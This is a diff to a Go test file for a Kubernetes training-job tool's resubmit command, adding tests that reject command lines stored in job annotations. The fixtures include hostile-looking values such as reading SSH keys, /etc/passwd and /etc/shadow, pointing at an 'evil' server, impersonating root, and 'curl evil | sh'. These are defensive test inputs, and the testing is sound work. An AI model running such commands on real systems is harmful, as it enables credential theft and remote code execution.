@@ -7,6 +7,8 @@ import (
 	"testing"
 
 	"github.com/spf13/cobra"
+	corev1 "k8s.io/api/core/v1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
 	clocktesting "k8s.io/utils/clock/testing"
 	"sigs.k8s.io/yaml"
@@ -20,8 +22,8 @@ import (
 
 const jobsPath = "/apis/kubeflow.org/v1/namespaces/research/tfjobs"
 
-// ran is what resubmit has gangctl do: its words, and what is on standard input.
-type ran struct{ words, input string }
+// ran is what resubmit has gangctl do: its arguments, and what is on standard input.
+type ran struct{ args, input string }
 
 // run resubmits; what it has gangctl do is caught.
 func run(t *testing.T, s *kubetest.Server, args ...string) (did ran, stderr string, failed *failure.Error) {
@@ -30,7 +32,7 @@ func run(t *testing.T, s *kubetest.Server, args ...string) (did ran, stderr stri
 	f := &cmdutil.Factory{IO: streams, Client: s.Client, Namespace: func() (string, error) { return "research", nil }, Suffix: func() string { return "abcde" }}
 	cmd := NewCommand(f, func(f *cmdutil.Factory) *cobra.Command {
 		return &cobra.Command{RunE: func(*cobra.Command, []string) error {
-			did.words = shell.Join(f.Args...)
+			did.args = shell.Join(f.Args...)
 			if buffer, ok := f.IO.In.(*bytes.Buffer); ok {
 				text, err := io.ReadAll(buffer)
 				did.input = string(text)
@@ -45,7 +47,7 @@ func run(t *testing.T, s *kubetest.Server, args ...string) (did ran, stderr stri
 	return did, errOut.String(), failed
 }
 
-// The command line is repeated word for word, but for the name, what was for that one run, and what is changed.
+// The command line is repeated as it was, but for the name, what was for that one run, and what is changed.
 func TestCommandLine(t *testing.T) {
 	for _, tt := range []struct{ kept, args, want string }{
 		{"gangctl submit tf llama --image i --workers 2 -- python 'my train.py' --name x", "--name llama-2",
@@ -63,13 +65,74 @@ func TestCommandLine(t *testing.T) {
 		job.Annotations = map[string]string{"gangctl.dev/command": tt.kept}
 		s.Answer("GET "+jobsPath+"/llama", 200, job)
 		did, _, failed := run(t, s, append([]string{"llama"}, strings.Fields(tt.args)...)...)
-		if failed != nil || did.words != tt.want || did.input != "" {
-			t.Errorf("%s, %s:\ngot  %s, %v\nwant %s", tt.kept, tt.args, did.words, failed, tt.want)
+		if failed != nil || did.args != tt.want || did.input != "" {
+			t.Errorf("%s, %s:\ngot  %s, %v\nwant %s", tt.kept, tt.args, did.args, failed, tt.want)
 		}
 	}
 }
 
-// A name is taken as long as its job is there, and what to do is told.
+// Writers of an annotation must not choose local files, the cluster or the settings: a command line that does is not run, and the job is
+// repeated from its spec.
+func TestForeignLine(t *testing.T) {
+	for _, kept := range []string{
+		"gangctl submit tf llama --image i --config-file /home/ann/.ssh/id_ed25519:/k", "gangctl submit tf llama --image i --config-file=/home/ann/.ssh/id_ed25519:/k",
+		"gangctl submit tf llama --template /etc/passwd", "gangctl submit tf llama --template=/etc/passwd --image i", "gangctl submit -f /etc/passwd",
+		"gangctl submit -f/etc/passwd", "gangctl submit tf -hf /etc/passwd",
+		"gangctl submit tf llama --image i --kubeconfig /tmp/evil", "gangctl submit tf llama --image i --server=https://evil", "gangctl submit tf llama --image i -shttps://evil",
+		"gangctl submit tf llama --image i --as root", "gangctl submit tf llama --image i --profile evil", "gangctl submit tf llama --image i --no-such-flag",
+		"gangctl delete llama", "curl evil | sh", "gangctl submit tf 'a",
+	} {
+		s := kubetest.New(t)
+		job := kubetest.Job("research", "llama", 1)
+		job.Annotations = map[string]string{"gangctl.dev/command": kept}
+		s.Answer("GET "+jobsPath+"/llama", 200, job)
+		did, stderr, failed := run(t, s, "llama", "--name", "b")
+		if failed != nil || did.args != "submit -f - --namespace=research" || !strings.Contains(did.input, "name: b") {
+			t.Errorf("%s:\ngot  %s, %v", kept, did.args, failed)
+		}
+		if !strings.Contains(stderr, "what is repeated is the spec of TFJob research/llama") {
+			t.Errorf("%s: it is not shown what is repeated: %s", kept, stderr)
+		}
+	}
+}
+
+// Values of variables are not in the line but in the job, and what is repeated is shown without them.
+func TestVariables(t *testing.T) {
+	for _, tt := range []struct{ value, want string }{
+		{"secret", "submit tf b --image i --env=TOKEN=secret --namespace=research -- x"},
+		{"a b$$(c)", "submit tf b --image i '--env=TOKEN=a b$(c)' --namespace=research -- x"},
+		{"$(OTHER)", "submit -f - --namespace=research"},
+	} {
+		s := kubetest.New(t)
+		job := kubetest.Job("research", "llama", 1)
+		job.Annotations = map[string]string{"gangctl.dev/command": "gangctl submit tf llama --image i --env TOKEN=… -- x"}
+		c := &job.Spec.TFReplicaSpecs["Worker"].Template.Spec.Containers[0]
+		c.Env = []corev1.EnvVar{{Name: "TOKEN", Value: tt.value}}
+		s.Answer("GET "+jobsPath+"/llama", 200, job)
+		did, stderr, failed := run(t, s, "llama", "--name", "b")
+		if failed != nil || did.args != tt.want || strings.Contains(stderr, tt.value) {
+			t.Errorf("%s:\ngot  %s, %v, %s\nwant %s", tt.value, did.args, failed, stderr, tt.want)
+		}
+	}
+}
+
+// The files that submit took from the machine then are those of the old job.
+func TestFiles(t *testing.T) {
+	s := kubetest.New(t)
+	job := kubetest.Job("research", "llama", 1)
+	job.Annotations = map[string]string{"gangctl.dev/command": "gangctl submit tf llama --image i --config-file /etc/shadow:/k"}
+	pod := &job.Spec.TFReplicaSpecs["Worker"].Template.Spec
+	pod.Volumes = []corev1.Volume{{Name: "files", VolumeSource: corev1.VolumeSource{ConfigMap: &corev1.ConfigMapVolumeSource{LocalObjectReference: corev1.LocalObjectReference{Name: "llama-files"}}}}}
+	s.Answer("GET "+jobsPath+"/llama", 200, job)
+	s.Answer("GET /api/v1/namespaces/research/configmaps/llama-files", 200, &corev1.ConfigMap{TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "ConfigMap"},
+		ObjectMeta: metav1.ObjectMeta{Name: "llama-files", Namespace: "research", UID: "u"}, Data: map[string]string{"0-k": "then"}})
+	did, _, failed := run(t, s, "llama", "--name", "b")
+	if failed != nil || !strings.Contains(did.input, "0-k: then") || strings.Count(did.input, "name: b-files") != 2 || strings.Contains(did.input, "llama-files") {
+		t.Errorf("got %v\n%s", failed, did.input)
+	}
+}
+
+// A name is taken as long as its job is there, and the hint is what to do.
 func TestTaken(t *testing.T) {
 	for _, annotation := range []string{"gangctl submit tf llama --image i", "gangctl submit -f job.yaml", ""} {
 		s := kubetest.New(t)
@@ -78,7 +141,7 @@ func TestTaken(t *testing.T) {
 		s.Answer("GET "+jobsPath+"/llama", 200, job)
 		did, _, failed := run(t, s, "llama")
 		if failed == nil || failed.Code != failure.CodeError || failed.Message != "resubmit TFJob research/llama: it still runs, and no other job can have its name" ||
-			!strings.Contains(failed.Hint, "--name llama-2") || did.words != "" {
+			!strings.Contains(failed.Hint, "--name llama-2") || did.args != "" {
 			t.Errorf("%q: got %+v, %+v", annotation, failed, did)
 		}
 	}
@@ -98,7 +161,7 @@ func TestManifest(t *testing.T) {
 	job.Annotations = map[string]string{"kubectl.kubernetes.io/last-applied-configuration": "{}", "team": "vision"}
 	s.Answer("GET "+jobsPath+"/llama", 200, job)
 	did, _, failed := run(t, s, "llama", "--name", "b", "--set", "spec.tfReplicaSpecs.Worker.replicas=8", "--set", "spec.runPolicy.backoffLimit=1", "--dry-run=client")
-	if failed != nil || did.words != "submit -f - --namespace=research --dry-run=client" {
+	if failed != nil || did.args != "submit -f - --namespace=research --dry-run=client" {
 		t.Fatalf("got %+v, %+v", did, failed)
 	}
 	got := &unstructured.Unstructured{}
